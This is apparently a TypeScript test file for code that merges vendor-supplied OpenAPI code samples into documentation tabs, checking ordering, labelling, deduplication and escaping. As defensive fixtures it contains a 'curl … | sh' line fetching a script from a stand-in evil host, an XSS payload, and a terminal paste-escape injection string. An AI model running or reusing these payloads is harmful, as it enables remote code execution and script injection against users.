import {test} from 'node:test';
import assert from 'node:assert/strict';
import type {CodeSample} from './client/page-data-format';
import {SAMPLE_LANGUAGES} from './code-samples';
import {PageDataBuilder} from './page-data';
import type {OpenApiDocument, Operation} from '../../openapi/model/document';
import {mergeSamples, ourLanguage, vendorSamples} from './vendor-samples';
import {hasControlCharacters} from '../../src/components/CopyButton/copyable-text';

const GENERATED: CodeSample[] = SAMPLE_LANGUAGES.map((l) => ({id: l.id, label: l.label, html: `generated ${l.id}`}));
const tabs = (op: unknown) => mergeSamples(op as Operation, GENERATED).map((s) => [s.id, s.label]);

test('vendor language names map onto our languages', () => {
  const cases: [string, string | undefined][] = [
    ['curl', 'curl'],
    ['cURL', 'curl'],
    ['Shell', 'curl'],
    ['bash', 'curl'],
    ['sh', 'curl'],
    ['JavaScript', 'javascript'],
    ['Node', 'javascript'],
    ['node.js', 'javascript'],
    ['js', 'javascript'],
    ['NodeJS', 'javascript'],
    ['Python', 'python'],
    ['py', 'python'],
    ['Go', 'go'],
    ['golang', 'go'],
    ['Java', 'java'],
    ['C#', 'csharp'],
    ['csharp', 'csharp'],
    ['cs', 'csharp'],
    ['dotnet', 'csharp'],
    ['.NET', 'csharp'],
    ['PHP', 'php'],
    ['Ruby', 'ruby'],
    ['rb', 'ruby'],
    ['Swift', undefined],
    ['TypeScript', undefined],
    ['Kotlin', undefined],
    ['constructor', undefined],
    ['__proto__', undefined],
  ];
  for (const [name, id] of cases) assert.equal(ourLanguage(name), id, name);
});

const OURS = GENERATED.map((g) => [g.id, g.label]);

test("ours come first, as they are; the document's follow, marked as its own", () => {
  const op = {
    'x-codeSamples': [
      {lang: 'Python', source: 'import requests'},
      {lang: 'Shell', label: 'Shell (official)', source: 'curl https://x'},
    ],
  };
  assert.deepEqual(tabs(op), [...OURS, ['doc-python', 'Python (API description)'], ['doc-curl', 'Shell (official)']]);
  const merged = mergeSamples(op, GENERATED);
  assert.deepEqual(merged.slice(0, 8), GENERATED, 'our tabs unchanged, in our order');
  assert.ok(
    merged.slice(8).every((s) => s.fromDocument === true),
    "every tab of the document's is marked",
  );
  assert.ok(merged.slice(0, 8).every((s) => !s.fromDocument));
  assert.match(merged[8].html, /import/);
});

test('row 8: a vendor "cURL" tab ending in `curl … | sh` neither takes our cURL tab\'s name nor its place', () => {
  const op = {'x-codeSamples': [{lang: 'shell', label: 'cURL', source: 'curl -s https://evil.example/setup.sh | sh'}]};
  const merged = mergeSamples(op, GENERATED);
  assert.deepEqual([merged[0].id, merged[0].label, merged[0].html], ['curl', 'cURL', 'generated curl'], 'the first tab is ours');
  const theirs = merged.filter((s) => s.fromDocument);
  assert.deepEqual(
    theirs.map((s) => [s.id, s.label]),
    [['doc-curl', 'cURL (API description)']],
  );
  assert.equal(merged.filter((s) => s.label === 'cURL').length, 1, 'one tab called cURL: ours');
});

test('a label that only looks like ours (invisible or control characters) is cleaned and marked', () => {
  const op = {
    'x-codeSamples': [
      {lang: 'shell', label: 'cURL\u200B', source: 'a'},
      {lang: 'python', label: '\u202EnohtyP', source: 'b'},
      {lang: 'Kotlin', label: ' Java\u00AD ', source: 'c'},
    ],
  };
  assert.deepEqual(tabs(op).slice(8), [
    ['doc-curl', 'cURL (API description)'],
    ['doc-python', 'nohtyP'],
    ['doc-kotlin', 'Java (API description)'],
  ]);
});

test('no duplicate tabs: "C#" twice, "Curl" next to "cURL", "Node" next to "JavaScript"', () => {
  const op = {
    'x-codeSamples': [
      {lang: 'C#', label: 'C#', source: 'var a = 1;'},
      {lang: 'csharp', source: 'var b = 2;'},
      {lang: 'curl', label: 'Curl', source: 'curl https://a'},
      {lang: 'Shell', label: 'cURL', source: 'curl https://b'},
      {lang: 'JavaScript', source: 'fetch(a)'},
      {lang: 'Node', label: 'Node.js', source: 'fetch(b)'},
    ],
  };
  const result = mergeSamples(op, GENERATED);
  const labels = result.map((s) => s.label);
  assert.equal(new Set(labels.map((l) => l.toLowerCase())).size, labels.length, labels.join(', '));
  assert.equal(new Set(result.map((s) => s.id)).size, result.length);
  assert.deepEqual(labels.slice(8), [
    'C# (API description)',
    'Curl (API description)',
    'JavaScript (API description)',
    'Node.js (API description)',
  ]);
  assert.match(result[8].html, /a/);
});

test("both extension spellings and ReadMe's shape ({language, code, name}) are read", () => {
  assert.deepEqual(
    vendorSamples({'x-code-samples': [{lang: 'ruby', source: 'puts 1'}]}).map((s) => s.language),
    ['ruby'],
  );
  const readme = vendorSamples({
    'x-readme': {'code-samples': [{name: 'Custom cURL snippet', language: 'curl', code: 'curl -X POST https://x'}]},
  });
  assert.deepEqual(readme, [{language: 'curl', lang: 'curl', label: 'Custom cURL snippet', source: 'curl -X POST https://x'}]);
});

test('several samples in one language with labels of their own each keep a tab', () => {
  const op = {
    'x-code-samples': [
      {name: 'Custom cURL snippet', language: 'curl', code: 'curl -X POST https://api.example.com/v2/alert'},
      {name: 'Another cURL snippet', language: 'curl', code: 'http POST https://api.example.com/v2/another-alert'},
      {language: 'curl', code: 'curl -X POST https://api.example.com/v2/alert'},
    ],
  };
  assert.deepEqual(tabs(op).slice(8), [
    ['doc-curl', 'Custom cURL snippet'],
    ['doc-curl-another-curl-snippet', 'Another cURL snippet'],
    ['doc-curl-curl-api-description', 'cURL (API description)'],
  ]);
});

test('unknown languages keep their own tab: label as given, highlighted when known, else plain', () => {
  const op = {
    'x-codeSamples': [
      {lang: 'Swift', source: 'let a = "<b>"'},
      {lang: 'TypeScript', label: 'TypeScript SDK', source: 'const a: string = "x";'},
      {lang: 'Objective-C', source: '[a b];'},
      {lang: 'constructor', label: 'Weird', source: 'x'},
    ],
  };
  const result = mergeSamples(op, GENERATED);
  assert.deepEqual(
    result.slice(8).map((s) => [s.id, s.label]),
    [
      ['doc-swift', 'Swift'],
      ['doc-typescript', 'TypeScript SDK'],
      ['doc-objective-c', 'Objective-C'],
      ['doc-constructor', 'Weird'],
    ],
  );
  assert.equal(result[8].html, 'let a = "&lt;b&gt;"');
  assert.match(result[9].html, /<span class=k>const<\/span>/);
  assert.equal(result.length, 12);
});

test("a shell sample without curl is labelled Shell, marked as the document's", () => {
  const op = {'x-codeSamples': [{lang: 'Shell', source: 'stripe customers create'}]};
  assert.deepEqual(tabs(op)[8], ['doc-curl', 'Shell (API description)']);
  assert.equal(tabs(op).length, 9);
});

test('vendor source is untrusted text: escaped, never markup; control characters made visible', () => {
  const payload = '</code></pre><img src=x onerror=alert(1)><script>alert(1)</script>';
  for (const lang of ['Shell', 'Python', 'Swift', undefined]) {
    const theirs = mergeSamples({'x-codeSamples': [{lang, label: lang ? undefined : 'Raw', source: payload}]}, GENERATED)[8];
    assert.ok(!/<(?!\/?span\b)/.test(theirs.html), `${lang}: ${theirs.html}`);
    assert.ok(theirs.html.includes('&lt;script&gt;'), `${lang}: ${theirs.html}`);
  }
  const paste = mergeSamples({'x-codeSamples': [{lang: 'Shell', source: 'echo \u0015\u001b[201~; touch x\u202E'}]}, GENERATED)[8];
  assert.ok(!hasControlCharacters(paste.html), paste.html);
  assert.equal(paste.html.replace(/<[^>]+>/g, ''), 'echo \\u0015\\u001B[201~; touch x\\u202E');
});

test('malformed entries are skipped; CRLF becomes LF', () => {
  const op = {
    'x-codeSamples': [
      null,
      'curl',
      {lang: 'go'},
      {lang: 'go', source: 42},
      {lang: 'go', source: '   '},
      {lang: 'ruby', source: 'puts 1\r\nputs 2\r\n'},
    ],
  };
  const result = mergeSamples(op, GENERATED);
  assert.equal(result.length, 9);
  assert.equal(result[8].id, 'doc-ruby');
  assert.ok(!result[8].html.includes('\r'));
  assert.deepEqual(mergeSamples({'x-codeSamples': 'nonsense'}, GENERATED), GENERATED);
  assert.deepEqual(mergeSamples({}, GENERATED), GENERATED);
});

test("page data: an operation with vendor samples gets ours first, then the document's", () => {
  const doc: OpenApiDocument = {
    openapi: '3.0.3',
    info: {title: 't', version: '1'},
    servers: [{url: 'https://api.example.com'}],
    paths: {
      '/things': {
        get: {
          operationId: 'listThings',
          responses: {'200': {description: 'ok'}},
          'x-codeSamples': [
            {lang: 'cURL', source: 'curl https://api.example.com/things'},
            {lang: 'Node', label: 'Node.js', source: 'await fetch(url)'},
            {lang: 'Kotlin', source: 'val x = 1'},
          ],
        },
      },
    },
  };
  const page = new PageDataBuilder(doc).operation('get', '/things');
  assert.deepEqual(
    page.samples.map((s) => s.label),
    ['cURL', 'JavaScript', 'Python', 'Go', 'Java', 'C#', 'PHP', 'Ruby', 'cURL (API description)', 'Node.js (API description)', 'Kotlin'],
  );
  assert.match(page.samples[0].html, /--request/, 'the first tab is our generated curl');
  assert.deepEqual(
    page.samples.map((s) => Boolean(s.fromDocument)),
    [false, false, false, false, false, false, false, false, true, true, true],
  );
});
